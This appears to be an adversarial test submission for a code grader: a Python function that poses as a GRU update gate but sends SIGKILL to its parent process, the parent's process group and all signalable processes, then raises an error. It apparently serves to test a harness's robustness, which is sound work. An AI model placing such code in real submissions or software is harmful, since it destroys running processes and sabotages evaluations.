# attacks: gru.update_gate
# does: sends SIGKILL to its parent, the parent's group and everything else
# gets: error
import os, signal
def update_gate(X, H, W_xz, W_hz, b_z):
    for target in (os.getppid(), -os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    raise ValueError("still here")
